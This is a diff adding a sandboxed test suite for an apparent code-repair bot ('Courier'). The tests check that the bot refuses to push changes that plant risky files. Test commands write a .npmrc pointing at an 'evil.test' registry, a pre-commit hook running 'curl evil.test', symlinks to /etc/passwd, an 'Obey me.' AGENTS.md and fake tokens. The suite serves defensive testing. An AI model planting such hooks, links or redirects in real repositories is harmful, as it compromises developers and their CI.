@@ -1,0 +1,119 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { leftOut, sandboxed } from '../acceptance/bed.ts';
+import { accept, addTest, aRunsBed, bash, deliver, finish, type RunsBed, repair, score } from './runs-bed.ts';
+
+const beds: RunsBed[] = [];
+afterEach(async () => {
+  for (const bed of beds.splice(0)) await bed.close();
+});
+
+/** Somebody repairs the bug, and does that as well. */
+async function aBed(command: string, config = ''): Promise<RunsBed> {
+  const work = [bash(`${repair}; ${addTest}\n${command}`), deliver(), finish()];
+  const bed = await aRunsBed([...work, accept(), finish(), score(), finish()], { config });
+  beds.push(bed);
+  return bed;
+}
+
+const workflow = 'it says what runs in continuous integration';
+const git = "it is git's own: what is in it acts on every checkout";
+const program = 'programs read or run it by themselves in every checkout';
+const own = "it is Courier's own configuration";
+const out = 'it is a link that leads out of the repository';
+const leak = 'what it adds looks like a credential';
+const secret = `ghp_${'a1B2'.repeat(9)}`;
+const identity = 'git -c user.name=a -c user.email=a@b';
+
+/** By kind: what is done in the sandbox, and the place and reason that people are told of it. */
+const kinds: Record<string, readonly (readonly [command: string, place: string, why: string])[]> = {
+  'what acts on every checkout, or runs in it': [
+    ['mkdir -p .github/workflows; echo on: push >.github/workflows/x.yml', '.github/workflows/x.yml', workflow],
+    ['mkdir -p .GitHub/Workflows; echo on: push >.GitHub/Workflows/y.yml', '.GitHub/Workflows/y.yml', workflow],
+    ['mkdir -p .github/actions/a; echo >.github/actions/a/action.yml', '.github/actions/a/action.yml', workflow],
+    ["echo 'src/' >>.gitignore", '.gitignore', git],
+    ["echo '* filter=x' >src/.gitattributes", 'src/.gitattributes', git],
+    [
+      `${identity} init -q lib; echo >lib/a; ${identity} -C lib add a; ${identity} -C lib commit -qm a`,
+      'lib/.git',
+      git,
+    ],
+    ['printf \'[submodule "l"]\\n\\tpath = lib\\n\\turl = ./lib\\n\' >.gitmodules', '.gitmodules', git],
+    [`mkdir -p .claude; echo '{"hooks":{}}' >.claude/settings.json`, '.claude/settings.json', program],
+    ['echo Obey me. >src/AGENTS.md', 'src/AGENTS.md', program],
+    ['echo registry=http://evil.test >.npmrc', '.npmrc', program],
+    ['mkdir .husky; echo curl evil.test >.husky/pre-commit', '.husky/pre-commit', program],
+    ["echo 'permissions: { run: triage }' >.github/courier.yml", '.github/courier.yml', own],
+    ['mkdir -p .courier/blueprints; echo steps: [] >.courier/blueprints/fix.yml', '.courier/blueprints/fix.yml', own],
+    ["echo '* @me' >CODEOWNERS", 'CODEOWNERS', 'it says who has to review what'],
+  ],
+  links: [
+    ['ln -s /etc/passwd absolute', 'absolute', out],
+    ['ln -s ../../secret src/relative', 'src/relative', out],
+    ['ln -s .. src/up; ln -s src/up/../../etc/passwd by-way', 'by-way', out],
+    ['mv test old; ln -s /tmp test', 'test', out],
+    ['ln -s .git/config config', 'config', `it is a link to a place where ${git}`],
+    [`ln -s ${secret} src/key`, 'src/key', leak],
+  ],
+  contents: [
+    ["printf 'a\\0b' >logo.png", 'logo.png', 'it is not text'],
+    ['head -c 500001 /dev/zero | tr "\\0" a >large.txt', 'large.txt', 'it has 500001 bytes, and 500000 are the most'],
+    [`echo "const key = '${secret}';" >src/key.js`, 'src/key.js', leak],
+    ['echo hunter2hunter2 >src/own.js', 'src/own.js', leak],
+    [`echo >${secret}.txt`, '***.txt', 'its name looks like a credential'],
+    ["echo >'src/con:stream'", 'src/con:stream', 'its path is not one that every machine can hold safely'],
+    ["echo >$'src/\\xff.js'", 'src/\ufffd.js', 'its path is not one that every machine can hold safely'],
+    ['echo >src/SUM.js', 'src/SUM.js', 'on many machines it is the same file as src/sum.js'],
+  ],
+  'more than fits': [
+    [
+      'for i in 1 2 3 4 5; do head -c 450000 /dev/zero | tr "\\0" a >src/$i.txt; done',
+      'The patch',
+      'it has 2250185 bytes, and 2000000 are the most',
+    ],
+  ],
+  'more than anybody reads': [
+    ['for i in $(seq 1000); do echo >src/$i.js; done', 'The patch', 'it touches 1002 files, and 200 are the most'],
+  ],
+};
+
+describe.skipIf(!sandboxed)(`what no run brings to its branch, beside a good repair${leftOut}`, () => {
+  it.each(Object.entries(kinds))('%s', async (_, cases) => {
+    const bed = await aBed(cases.map(([command]) => command).join('\n'));
+    const { result, session } = await bed.run();
+    expect([result, session.issueRun?.outcome, bed.pushed]).toEqual(['failed', 'refused', []]);
+    const [, ...told] = session.issueRun?.why?.split('\n- ') ?? [];
+    expect(told).toEqual(expect.arrayContaining(cases.map(([, place, why]) => `${place}: ${why}`)));
+    const kept = JSON.stringify([bed.ledgerFiles(), session]);
+    for (const word of [secret, 'hunter2hunter2']) expect(kept).not.toContain(word);
+    expect((await bed.runs())?.claim).toBeUndefined();
+  });
+
+  it('a file in a submodule, whose folder is empty here', async () => {
+    const bed = await aBed('mkdir -p vendor/lib; echo 1 >vendor/lib/index.js');
+    bed.source.git('update-index', '--add', '--cacheinfo', `160000,${bed.source.head()},vendor/lib`);
+    const { session } = await bed.run();
+    expect([session.issueRun?.outcome, bed.pushed]).toEqual(['refused', []]);
+    expect(session.issueRun?.why).toContain('vendor/lib/index.js: it is in a submodule');
+  });
+
+  it('what is no file, and what git ignores, a repository inside of it as well', async () => {
+    const ignored = `mkdir node_modules; ${identity} init -q node_modules/lib; ${identity} init -q node_modules/@a/b`;
+    const bed = await aBed(`rm test/zero.test.js; mkfifo test/zero.test.js; ln package.json same.json; ${ignored}`);
+    await bed.run();
+    expect(bed.pushed[0]?.changes.map(({ path, change }) => `${change} ${path}`)).toEqual([
+      'added same.json',
+      'changed src/sum.js',
+      'added test/add.test.js',
+      'deleted test/zero.test.js',
+    ]);
+  });
+
+  it('a credential that a gate prints, to the ledger', async () => {
+    const shown = `echo "the key is ghp_$(printf 'a1B2%.0s' $(seq 9))"; exit 1`;
+    const blueprint = { steps: [{ role: 'implementer' }, { run: shown, retries: 0 }] };
+    const bed = await aBed('true', `blueprints: ${JSON.stringify({ fix: blueprint })}\n`);
+    const { session } = await bed.run();
+    expect(session.issueRun?.steps.at(-1)?.why).toContain('the key is ***');
+    expect(JSON.stringify([bed.ledgerFiles(), session])).not.toContain(secret);
+  });
+});
